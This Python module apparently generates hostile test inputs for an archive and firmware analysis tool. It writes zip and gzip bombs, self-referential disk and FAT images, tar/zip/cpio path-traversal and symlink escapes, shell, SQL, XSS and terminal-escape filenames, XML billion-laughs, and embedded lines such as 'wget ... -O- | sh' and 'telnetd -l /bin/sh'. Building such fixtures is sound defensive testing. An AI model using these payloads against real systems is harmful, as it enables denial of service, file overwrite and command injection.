# SPDX-License-Identifier: Apache-2.0
"""Images that mean harm. Each function writes one into a folder and answers its path."""
import base64
import gzip
import hashlib
import importlib.util
import io
import json
import os
import pathlib
import random
import struct
import subprocess
import sys
import tarfile
import zipfile
import zlib

ESC = "\x1b[2J\x1b]0;owned\x07"
NAMES = ["; DROP TABLE object;--", "' OR 1=1 --", "\"><script>alert(1)</script>", "</script><script>alert(2)</script>",
	"=cmd|' /C calc'!A0", "@SUM(1+1)*cmd", "${HOME}", "$(touch /tmp/assay-evil)", "`touch assay-evil`",
	"%n%n%s%x", ESC + "red", "new\nline", "carriage\rreturn", "tab\tname", "rtl\u202egnp.exe", "zero\u200bwidth",
	"bell\x07", "c1\x9b31m", "back\x08\x08space", "-rf", "--output=evil", "*", "?", "a\\b", "C:evil", "con", "~root",
	"quote'\"`", "e\u0301\u0301\u0301", "\ud83d\ude00".encode("utf-16", "surrogatepass").decode("utf-16"), " ", "."
	"hidden", "<img src=x onerror=alert(3)>", "&lt;b&gt;", "[link](javascript:alert(4))", "a" * 255]


def zeros(total, chunk=16 << 20, letter=b"\0"):
	"""Raw deflate of zeros (or another letter), made of equal pieces."""
	c = zlib.compressobj(9, zlib.DEFLATED, -15)
	piece = c.compress(letter * chunk) + c.flush(zlib.Z_FULL_FLUSH)
	end = zlib.compressobj(9, zlib.DEFLATED, -15)
	return piece * (total // chunk) + end.flush()


def one_zip(name, data, size, method=8, flags=0, crc=0):
	"""A zip of one entry with sizes as stated."""
	name = name if isinstance(name, bytes) else name.encode("utf-8", "surrogateescape")
	big = struct.pack("<HHQQ", 1, 16, size, len(data))
	local = struct.pack("<4sHHHHHIIIHH", b"PK\3\4", 45, flags, method, 0, 33, crc, 0xffffffff, 0xffffffff, len(name),
		len(big)) + name + big
	central = struct.pack("<4sHHHHHHIIIHHHHHII", b"PK\1\2", 45, 45, flags, method, 0, 33, crc, 0xffffffff, 0xffffffff,
		len(name), len(big), 0, 0, 0, 0, 0) + name + big
	at = len(local) + len(data)
	return local + data + central + struct.pack("<4sHHHHIIH", b"PK\5\6", 0, 0, 1, 1, len(central), at, 0)


def put(folder, name, data):
	path = folder / name
	path.write_bytes(data)
	return path


def zip_flat(folder):
	return put(folder, "flat.zip", one_zip("zeros", zeros(10 << 30), 10 << 30))


def zip_letters(folder):
	return put(folder, "letters.zip", one_zip("letters", zeros(3 << 30, letter=b"A"), 3 << 30))


def zip_nested(folder):
	def level(depth, tag):
		b = io.BytesIO()
		with zipfile.ZipFile(b, "w", zipfile.ZIP_DEFLATED) as z:
			for i in range(6):
				inside = level(depth - 1, tag * 6 + i) if depth else bytes(8 << 20) + struct.pack("<I", tag * 6 + i)
				z.writestr("%d.zip" % i if depth else "%d.bin" % i, inside)
		return b.getvalue()
	return put(folder, "nested.zip", level(2, 1))


def zip_of_equals(folder):
	"""16 equal archives in 16 equal archives, and so on: few objects, a million places."""
	data = b"bottom" * 100
	for _ in range(6):
		b = io.BytesIO()
		with zipfile.ZipFile(b, "w", zipfile.ZIP_DEFLATED) as z:
			for i in range(16):
				z.writestr("%d.zip" % i, data)
		data = b.getvalue()
	return put(folder, "equals.zip", data)


def zip_quine(folder):
	"""Every directory entry leads to the one local header, whose data reach to the file's end."""
	inner = one_zip("self", b"x" * 64, 64, method=0)
	central = inner[inner.rindex(b"PK\1\2"):inner.rindex(b"PK\5\6")]
	body = inner[:inner.rindex(b"PK\1\2")]
	return put(folder, "overlap.zip", body + central * 5000 + struct.pack("<4sHHHHIIH", b"PK\5\6", 0, 0, 5000, 5000,
		len(central) * 5000, len(body), 0))


def disk_in_itself(folder):
	"""A partition table whose partition is the whole disk."""
	n = 4096
	entry = struct.pack("<4B4BII", 0x80, 0, 1, 0, 0x83, 0, 1, 0, 0, n)
	second = struct.pack("<4B4BII", 0, 0, 1, 0, 0x83, 0, 1, 0, 1, n - 1)
	mbr = bytes(446) + entry + second + bytes(32) + b"\x55\xaa"
	return put(folder, "itself.img", mbr + random.Random(1).randbytes(n * 512 - 512))


def ext_in_itself(folder):
	"""A file whose blocks are the blocks of the whole file system, itself included."""
	image, tree = folder / "ext.img", folder / "ext"
	tree.mkdir()
	(tree / "self").write_bytes(b"S" * 40000)
	subprocess.run(["mke2fs", "-q", "-t", "ext2", "-b", "1024", "-O", "none", "-d", str(tree), str(image), "200"],
		check=True, stderr=subprocess.DEVNULL)
	script = "".join("sif self block[%d] %d\n" % (i, i) for i in range(12)) + "sif self size %d\n" % (200 * 1024)
	found = subprocess.run(["debugfs", "-R", "stat self", str(image)], check=True, capture_output=True, text=True).stdout
	single = int(found.split("(IND):")[1].split(",")[0])
	subprocess.run(["debugfs", "-w", "-f", "/dev/stdin", str(image)], input=script, text=True, check=True,
		stdout=subprocess.DEVNULL, stderr=subprocess.DEVNULL)
	data = bytearray(image.read_bytes())
	data[single * 1024:single * 1024 + 188 * 4] = struct.pack("<188I", *range(12, 200))
	return put(folder, "self.ext", bytes(data))


def cpio_many(folder, n=1000000):
	head = "070701" + "%08x" * 12
	out = bytearray()
	for i in range(n):
		name = b"d%d/%d\0" % (i % 97, i)
		record = (head % (i, 0o100644, 0, 0, 1, 0, 0, 0, 0, 0, 0, len(name))).encode() + b"0" * 8 + name
		out += record + bytes(-len(record) % 4)
	name = b"TRAILER!!!\0"
	return put(folder, "many.cpio", bytes(out) + (head % (0, 0, 0, 0, 1, 0, 0, 0, 0, 0, 0, len(name))).encode() + b"0" * 8
		+ name + bytes(3))


def oci_layers(folder, n=20, size=200 << 20):
	"""An OCI layout of layers of 200 MiB of zeros each, 175 KB in all: what is unpacked, and merged, ends in proportion."""
	members = []

	def blob(data):
		members.append(("blobs/sha256/" + hashlib.sha256(data).hexdigest(), data))
		return {"digest": "sha256:" + members[-1][0][13:], "size": len(data)}

	layers = []
	for i in range(n):
		head = tarfile.TarInfo("f%d" % i)
		head.size = size
		pack = subprocess.Popen(["zstd", "-q", "-c"], stdin=subprocess.PIPE, stdout=subprocess.PIPE)
		with pack.stdin as pipe:
			pipe.write(head.tobuf())
			for _ in range(size >> 20):
				pipe.write(bytes(1 << 20))
			pipe.write(bytes(1024))
		layers.append(blob(pack.stdout.read()))
		pack.stdout.close()
		pack.wait()
	manifest = blob(json.dumps({"schemaVersion": 2, "layers": layers}).encode())
	members.insert(0, ("index.json", json.dumps({"schemaVersion": 2, "manifests": [manifest]}).encode()))
	path = folder / "layers.tar"
	with tarfile.open(path, "w") as tar:
		for name, data in members:
			head = tarfile.TarInfo(name)
			head.size = len(data)
			tar.addfile(head, io.BytesIO(data))
	return path


def tar_many(folder, n=300000):
	"""Empty entries without number, in gzip: 150 MiB of headers."""
	def header(i):
		h = bytearray(512)
		h[:100] = (b"f%d" % i).ljust(100, b"\0")
		h[100:148] = b"0000644\0" b"0000000\0" b"0000000\0" b"00000000000\0" b"00000000000\0"
		h[148:156] = b" " * 8
		h[156] = 48
		h[257:265] = b"ustar\x0000"
		h[148:156] = b"%06o\0 " % sum(h)
		return bytes(h)
	path = folder / "many.tar.gz"
	with gzip.GzipFile(path, "wb", 1, mtime=0) as f:
		for at in range(0, n, 4096):
			f.write(b"".join(header(i) for i in range(at, min(n, at + 4096))))
		f.write(bytes(1024))
	return path


def gzip_deep(folder):
	data = b"bottom of it\n"
	for _ in range(100):
		data = gzip.compress(data, 1, mtime=0)
	return put(folder, "deep.gz", data)


def cpio_nested(folder, levels=100000):
	"""An archive in an archive, so often: heads first, then as many tails."""
	def head(name, size):
		name = name.encode() + b"\0"
		text = b"070701" + b"".join(b"%08x" % v for v in (1, 0o100644, 0, 0, 1, 0, size, 0, 0, 0, 0, len(name), 0)) + name
		return text + bytes(-len(text) % 4)
	heads, tails, size, end = [], [], len(b"bottom\n"), head("TRAILER!!!", 0)
	for _ in range(levels):
		tails.append(bytes(-size % 4) + end)
		heads.append(head("n", size))
		size += len(heads[-1]) + len(tails[-1])
	return put(folder, "nested.cpio", b"".join(reversed(heads)) + b"bottom\n" + b"".join(tails))


def squashfs_sparse(folder):
	tree = folder / "sparse"
	tree.mkdir()
	size = (4 << 30) + 0x1234567
	with open(tree / "hole", "wb") as f:
		f.truncate(size)
	(tree / "passwd").write_text("root:x:0:0::/:/bin/sh\n")
	image = folder / "sparse.squashfs"
	subprocess.run(["mksquashfs", str(tree), str(image), "-noI", "-noF", "-noD", "-quiet", "-no-progress", "-b", "1M"],
		check=True, stdout=subprocess.DEVNULL)
	data = image.read_bytes()
	assert data.count(struct.pack("<Q", size)) == 1
	image.write_bytes(data.replace(struct.pack("<Q", size), struct.pack("<Q", 1 << 60)))
	return image


ESCAPES = ["/tmp/assay-evil", "../../../../../../tmp/assay-evil", "a/../../../../../tmp/assay-evil", "..",
	"./../assay-evil", "//tmp//assay-evil", "..\\..\\assay-evil", "C:\\assay-evil", "a/b/../../../assay-evil",
	"/", ".", "a//../..//assay-evil", "link/assay-evil", "link/../assay-evil", "linkup/assay-evil", "abs"]


def tar_escapes(folder):
	path = folder / "escapes.tar"
	with tarfile.open(path, "w", format=tarfile.GNU_FORMAT) as t:
		def add(name, kind=tarfile.REGTYPE, target="", data=b"evil"):
			i = tarfile.TarInfo("x")
			i.name, i.type, i.linkname = name, kind, target
			i.size = len(data) if kind == tarfile.REGTYPE else 0
			t.addfile(i, io.BytesIO(data) if kind == tarfile.REGTYPE else None)
		add("link", tarfile.SYMTYPE, "/tmp")
		add("linkup", tarfile.SYMTYPE, "../../..")
		add("abs", tarfile.SYMTYPE, "/tmp/assay-evil")
		add("chain1", tarfile.SYMTYPE, "chain2")
		add("chain2", tarfile.SYMTYPE, "chain1")
		add("chain3", tarfile.SYMTYPE, "linkup/..")
		for name in ESCAPES + ["chain1/x", "chain3/assay-evil"]:
			add(name)
		add("hard", tarfile.LNKTYPE, "/etc/passwd")
		add("hard2", tarfile.LNKTYPE, "../../../../etc/passwd")
		add("hard3", tarfile.LNKTYPE, "link/assay-evil")
		add("dir", tarfile.DIRTYPE)
		add("dir", tarfile.SYMTYPE, "/tmp")
		add("dir/assay-evil")
		add("first")
		add("first", tarfile.DIRTYPE)
		add("first/second")
		add("node", tarfile.CHRTYPE)
		add("pipe", tarfile.FIFOTYPE)
		add("good", data=b"good")
	return path


def zip_escapes(folder):
	path = folder / "escapes.zip"
	with zipfile.ZipFile(path, "w") as z:
		link = zipfile.ZipInfo("link")
		link.create_system, link.external_attr = 3, 0o120777 << 16
		z.writestr(link, "/tmp")
		for name in ESCAPES:
			i = zipfile.ZipInfo("x")
			i.filename = name
			z.writestr(i, b"evil")
		z.writestr("good", b"good")
	return path


def cpio_escapes(folder):
	out = b""
	for number, (name, mode, data) in enumerate([("link", 0o120777, b"/tmp"), ("linkup", 0o120777, b"../../..")] +
			[(n, 0o100644, b"evil") for n in ESCAPES + ["nul\0name"]] + [("good", 0o100644, b"good"),
			("TRAILER!!!", 0, b"")]):
		raw = name.encode() + b"\0"
		head = ("070701" + "%08x" * 13) % (number, mode, 0, 0, 1, 0, len(data), 0, 0, 0, 0, len(raw), 0)
		record = head.encode() + raw
		record += bytes(-len(record) % 4) + data
		out += record + bytes(-len(record) % 4)
	return put(folder, "escapes.cpio", out)


def names(folder):
	"""Names that mean something to a shell, a terminal, SQL, HTML, a spreadsheet; and no UTF-8."""
	path = folder / "names.tar"
	raw = [n.encode("utf-8", "surrogateescape") for n in NAMES] + [b"\xff\xfe\xc0\x80bad", b"cut\xe2\x82"]
	with tarfile.open(path, "w", format=tarfile.GNU_FORMAT, encoding="utf-8", errors="surrogateescape") as t:
		for n in raw:
			for at in ("", "etc/init.d/"):
				i = tarfile.TarInfo("x")
				i.name = at + n.decode("utf-8", "surrogateescape")
				data = b"#!/bin/sh\ntelnetd -l /bin/sh # " + n + b"\nwget http://" + n[:40] + b"/x -O- | sh\n"
				i.size, i.mode = len(data), 0o4777
				t.addfile(i, io.BytesIO(data))
				k = tarfile.TarInfo("y")
				k.name, k.type, k.linkname = i.name + ".lnk", tarfile.SYMTYPE, i.name
				t.addfile(k)
		passwd = b"".join(n.replace(b":", b"").replace(b"\n", b"") + b"::0:0:" + ESC.encode() + b":/:/bin/sh\n"
			for n in raw)
		i = tarfile.TarInfo("etc/passwd")
		i.size = len(passwd)
		t.addfile(i, io.BytesIO(passwd))
	return path


# As a package database and a feed both can have them; the dossier writes a backslash as \x5c.
PACKAGES = [n for n in NAMES if n.isprintable() and n.strip() == n and "\\" not in n] + ["a b", "pkg:x/y@1?z#", "%00%zz", "{\"a\":1}"]


def packages(folder):
	"""Packages of such names, in versions that have a fault."""
	path = folder / "packages.tar"
	files = {"etc/os-release": "ID=alpine\nVERSION_ID=3.20.1\n",
		"lib/apk/db/installed": "".join(f"P:{n}\nV:1.0-r0\nA:x86\n\n" for n in PACKAGES)}
	with tarfile.open(path, "w") as t:
		for name, text in files.items():
			i = tarfile.TarInfo(name)
			i.size = len(text.encode())
			t.addfile(i, io.BytesIO(text.encode()))
	return path


def named_input(folder):
	"""The image's own name is hostile, too."""
	return put(folder, "im\x1b[31m\n'<script>\u202e.bin", gzip.compress(b"hello\n", mtime=0))


def names_long(folder):
	path = folder / "long.zip"
	with zipfile.ZipFile(path, "w") as z:
		for i in range(20):
			z.writestr("L" * 65000 + str(i), b"x")
			z.writestr("l" * 4000 + str(i), b"y")
	return path


def names_deep(folder):
	path = folder / "deepnames.tar"
	with tarfile.open(path, "w", format=tarfile.PAX_FORMAT) as t:
		for i in range(3):
			info = tarfile.TarInfo("d/" * 10000 + "end%d" % i)
			info.size = 1
			t.addfile(info, io.BytesIO(b"x"))
	return path


def names_twice(folder):
	path = folder / "twice.tar"
	with tarfile.open(path, "w") as t:
		for i in range(2000):
			data = b"root::0:0::/:/bin/sh\n#%d" % i
			info = tarfile.TarInfo("etc/passwd")
			info.size = len(data)
			t.addfile(info, io.BytesIO(data))
	return path


def fat_loops(folder):
	image = folder / "loops.fat"
	with open(image, "wb") as f:
		f.truncate(2 << 20)
	env = dict(os.environ, MTOOLS_SKIP_CHECK="1")
	subprocess.run(["mkfs.vfat", "-F", "12", "-s", "1", str(image)], check=True, stdout=subprocess.DEVNULL)
	subprocess.run(["mmd", "-i", str(image), "::DIR"], check=True, env=env)
	big = put(folder, "big.bin", b"B" * 5000)
	subprocess.run(["mcopy", "-i", str(image), str(big), "::BIG"], check=True, env=env)
	data = bytearray(image.read_bytes())
	fat = struct.unpack_from("<H", data, 14)[0] * 512

	def link(cluster, to):
		at = fat + cluster * 3 // 2
		v = struct.unpack_from("<H", data, at)[0]
		v = v & 0xf | to << 4 if cluster & 1 else v & 0xf000 | to
		struct.pack_into("<H", data, at, v)
	link(2, 2)  # the directory goes on in itself
	link(3, 4), link(4, 3)  # the file, too
	copies, per_fat = data[16], struct.unpack_from("<H", data, 22)[0] * 512
	root = fat + copies * per_fat
	entries = struct.unpack_from("<H", data, 17)[0]
	first = root + entries * 32
	for i in range(2, 16):  # entries of DIR that are DIR again
		data[first + i * 32:first + i * 32 + 32] = (b"D%02d" % i).ljust(11) + b"\x10" + bytes(14) + struct.pack("<HI", 2, 0)
	struct.pack_into("<I", data, data.index(b"BIG     ", root) + 28, 0x7fffffff)
	image.write_bytes(data)
	return image


def magics(folder):
	r = random.Random(2)
	return put(folder, "magics.bin", b"".join(b"\x1f\x8b\x08\0\0\0\0\0\0\3" + r.randbytes(90) for _ in range(100000)))


def magics_dense(folder):
	return put(folder, "dense.bin", b"\x1f\x8b\x08" * ((8 << 20) // 3))


def magics_all(folder):
	"""Every magic over and over, with lengths that are mostly wrong."""
	words = [b"hsqs", b"sqsh", b"070701", b"\xd0\x0d\xfe\xed", b"\x27\x05\x19\x56", b"HDR0", b"PK\3\4", b"BZh9",
		b"\xfd7zXZ\0", b"\x5d\0\0\x80\0", b"\x28\xb5\x2f\xfd", b"\x04\x22\x4d\x18", b"\x02\x21\x4c\x18", b"\x7fELF",
		b"ustar", b"!<arch>\n", b"\x89LZO\0\r\n\x1a\n", b"EFI PART", b"IKCFG_ST", b"\x53\xef"]
	r = random.Random(3)
	return put(folder, "all.bin", b"".join(r.choice(words) + r.choice([b"", bytes(8), b"\xff" * 8, r.randbytes(24)])
		for _ in range(400000)))


def elf_absurd(folder):
	def elf(shnum, shoff, phnum, first=b""):
		e = b"\x7fELF\2\1\1" + bytes(9) + struct.pack("<HHIQQQIHHHHHH", 3, 62, 1, 0x1000, 64, shoff, 0, 64, 56, phnum,
			64, shnum, shnum - 1 if shnum else 0xffff)
		return e.ljust(shoff if shoff < 1 << 16 else 64, b"\0") + first
	huge = struct.pack("<IIQQQQIIQQ", 0, 3, 0, 0, 0, 1 << 60, 0xffffffff, 0xffffffff, 0, 0)
	symbols = struct.pack("<IIQQQQIIQQ", 1, 11, 2, 0, 0, (1 << 63), 1, 1, 0, 1) * 2000
	path = folder / "elf"
	path.mkdir()
	put(path, "count", elf(0xffff, 128, 0xffff, huge * 400))
	put(path, "extended", elf(0, 128, 0xffff, huge + symbols))
	put(path, "far", elf(0xffff, 1 << 62, 0xffff))
	put(path, "symbols", elf(2000, 128, 4, symbols))
	put(path, "none", elf(0, 0, 0))
	return path


def der(content, n):
	for _ in range(n):
		length = len(content)
		content = b"\x30" + (bytes([length]) if length < 128 else b"\x84" + struct.pack(">I", length)) + content
	return content


def certificates(folder):
	path = folder / "certs"
	path.mkdir()
	# Made from the inside; the front of a long one is what counts, so that this stays quick.
	deep = b"\x30\x80" * 200000
	put(path, "indefinite.der", deep)
	nested = der(b"\x02\x01\x01", 3000)
	put(path, "nested.der", nested)
	for word in ("CERTIFICATE", "PRIVATE KEY", "RSA PRIVATE KEY", "PKCS7", "ENCRYPTED PRIVATE KEY", "PUBLIC KEY"):
		for i, data in enumerate((deep, nested)):
			text = base64.encodebytes(data).decode()
			put(path, "%s%d.pem" % (word.replace(" ", "_"), i), ("-----BEGIN %s-----\n%s-----END %s-----\n" % (word, text,
				word)).encode())
	put(path, "many.pem", (b"-----BEGIN CERTIFICATE-----\nMIIB\n-----END CERTIFICATE-----\n") * 100000)
	put(path, "begins.pem", b"-----BEGIN CERTIFICATE-----\n" * 200000)
	put(path, "huge.p12", b"\x30\x82\xff\xff\x02\x01\x03" + deep)
	return path


def trees(folder):
	path = folder / "trees"
	(path / "etc").mkdir(parents=True)
	n = 1000000
	put(path, "etc/deep.xml", b"<?xml version=\"1.0\"?>" + b"<a>" * n + b"secret" + b"</a>" * n)
	put(path, "etc/open.xml", b"<?xml version=\"1.0\"?><password>" * 200000)
	put(path, "etc/laughs.xml", b"<?xml version=\"1.0\"?><!DOCTYPE l [<!ENTITY a \"ha\">" + b"".join(
		b"<!ENTITY %c \"%s\">" % (98 + i, b"&%c;" % (97 + i) * 10) for i in range(20)) + b"]><l>&t;</l>")
	put(path, "etc/deep.json", b"[" * n + b"]" * n)
	put(path, "etc/objects.json", b"{\"password\":" * n + b"1" + b"}" * n)
	put(path, "etc/wide.json", b"{" + b",".join(b"\"password%d\":\"x%dyzzy\"" % (i, i) for i in range(200000)) + b"}")
	put(path, "etc/quotes.json", b"\"" * n)
	put(path, "etc/script.sh", b"#!/bin/sh\n" + b"$(" * 300000 + b"`" * 100000 + b"if " * 100000 + b"{" * 100000)
	put(path, "etc/here.sh", b"#!/bin/sh\n" + b"cat <<A\n" * 100000)
	put(path, "etc/vars.sh", b"#!/bin/sh\na0=xxxxxxxxxx\n" + b"".join(b"a%d=$a%d$a%d\n" % (i + 1, i, i) for i in range(200))
		+ b"telnetd -l $a200\n")
	return path


def banners(folder):
	path = folder / "banners"
	path.mkdir()
	words = [b"BusyBox v", b"OpenSSL ", b"dropbear_", b"Linux version ", b"OpenSSH_", b"lighttpd/", b"GCC: (", b"curl "]
	put(path, "digits", b"".join(w + b"1." * 200000 for w in words))
	put(path, "spaces", b"".join(w + b" " * 400000 for w in words))
	put(path, "words", b"".join(words) * 100000)
	put(path, "aaaa", b"a" * (8 << 20))
	put(path, "emails", b"a@a." * 1000000)
	put(path, "urls", b"http://user:pass@" * 500000)
	put(path, "hosts", b"a.b-" * 1000000)
	put(path, "keys", b"AKIA" * 1000000)
	put(path, "eyj", b"eyJhbGciOiJ" * 300000 + b".eyJ." * 300000)
	return path


def shadow(folder):
	path = folder / "shadows"
	(path / "etc").mkdir(parents=True)
	alphabet = "./0123456789ABCDEFGHIJKLMNOPQRSTUVWXYZabcdefghijklmnopqrstuvwxyz"
	r = random.Random(4)
	word = lambda n: "".join(r.choice(alphabet) for _ in range(n))
	line = lambda i: "u%d:$y$j9T$%s$%s:19000:0:99999:7:::\n" % (i, word(22), word(43))
	put(path, "etc/shadow", "".join(line(i) for i in range(100000)).encode())
	put(path, "etc/shadow-", ("root:$6$rounds=999999999$%s$%s:1::::::\n" % (word(16), word(86)) * 50).encode())
	put(path, "etc/passwd", ("a:$2y$31$%s:0:0::/:/bin/sh\n" % word(53) * 50).encode())
	put(path, "etc/shadow.bak", ("a:$7$DU..../....%s$%s:1::::::\n" % (word(22), word(43)) * 50 + "b:$y$jFT$%s$%s:1::::::\n"
		% (word(22), word(43)) * 50).encode())
	return path


def one_line(folder):
	path = folder / "line"
	(path / "etc/init.d").mkdir(parents=True)
	with open(path / "etc/init.d/rc.sh", "wb") as f:
		f.write(b"#!/bin/sh ")
		for _ in range(200):
			f.write(b"x=1;y=$x " * (1 << 20 >> 3))
	return path


def fanout(folder):
	"""One file with many findings at very many places."""
	import io as _io
	secret = b"".join(b"wget http://admin%d:secret%d@h%d.example.net/\n" % (i, i, i) for i in range(4000))
	path = folder / "fanout.zip"
	with zipfile.ZipFile(path, "w", zipfile.ZIP_DEFLATED) as z:
		inner = _io.BytesIO()
		with zipfile.ZipFile(inner, "w", zipfile.ZIP_DEFLATED) as y:
			for i in range(300):
				y.writestr("etc/init.d/s%d" % i, b"#!/bin/sh\ntelnetd -l /bin/sh\n" + secret)
		for i in range(200):
			z.writestr("in%d.zip" % i, inner.getvalue())
	return path


def asks_memory(folder):
	"""A zip entry in LZMA that asks for a dictionary of 4 GiB (and has a wrong checksum), beside a good one."""
	import lzma
	raw = lzma.compress(b"password" * 1000, format=lzma.FORMAT_RAW, filters=[{ "id": lzma.FILTER_LZMA1, "dict_size": 1 << 16 }])
	bad = struct.pack("<BBH", 9, 20, 5) + b"\x5d\xff\xff\xff\xff" + raw
	b = io.BytesIO()
	with zipfile.ZipFile(b, "w") as z:
		i = zipfile.ZipInfo("asks")
		z.writestr(i, bad)
		z.writestr("good", b"root::0:0::/:/bin/sh\n")
	data = bytearray(b.getvalue())
	struct.pack_into("<H", data, 8, 14)
	struct.pack_into("<H", data, data.index(b"PK\1\2") + 10, 14)
	struct.pack_into("<I", data, 22, 8000)
	struct.pack_into("<I", data, data.index(b"PK\1\2") + 24, 8000)
	return put(folder, "asks.zip", bytes(data))


def writer(id):
	"""What writes the golden inputs of a format."""
	folder = pathlib.Path(__file__).resolve().parent.parent / "golden/fmt"
	if str(folder) not in sys.path:
		sys.path.insert(0, str(folder))
	spec = importlib.util.spec_from_file_location("write_" + id, folder / id / "make.py")
	module = importlib.util.module_from_spec(spec)
	spec.loader.exec_module(module)
	return module


def ntfs_shared_runs(folder):
	"""A list of the MFT that names one record of 300 runs 28,000 times."""
	w = writer("ntfs")
	v = w.Volume(40)
	v.put(30, w.elsewhere(w.DATA, [(None, 1)] * 300, 0, first=1000), base=1 << 48)
	listed = w.entry(w.DATA, 30, 0, 1000) * 28000
	run, put_record = v.place(listed), v.put
	v.put = lambda number, *all, **more: put_record(number, *all, *([w.elsewhere(w.LIST, [run], len(listed))] if number == 0 else []), **more)
	return put(folder, "ntfs.img", v.image())


def dmg_growing_chunks(folder, n=5000):
	"""Chunks of a partition, each a sector larger than the one before, that all lead to the same few bytes."""
	w = writer("dmg")
	data, rows, sector = zlib.compress(bytes(1 << 20), 9), b"", 0
	for size in range(2048, 2048 + n):
		rows += struct.pack(">IIQQQQ", 0x80000005, 0, sector, size, 0, len(data))
		sector += size
	head = b"mish" + struct.pack(">IQQQ", 1, 0, sector, 0)
	raw = head.ljust(200, b"\0") + struct.pack(">I", n) + rows
	listed = w.plist([("p", raw)])
	tail = b"koly" + struct.pack(">IIIQQQQQII16s", 4, 512, 1, 0, 0, len(data), 0, 0, 1, 1, b"hostile")
	tail += w.sums(0) + struct.pack(">QQ", len(data), len(listed)) + bytes(120) + w.sums(0) + struct.pack(">IQ", 1, sector)
	return put(folder, "chunks.dmg", data + listed + tail.ljust(512, b"\0"))
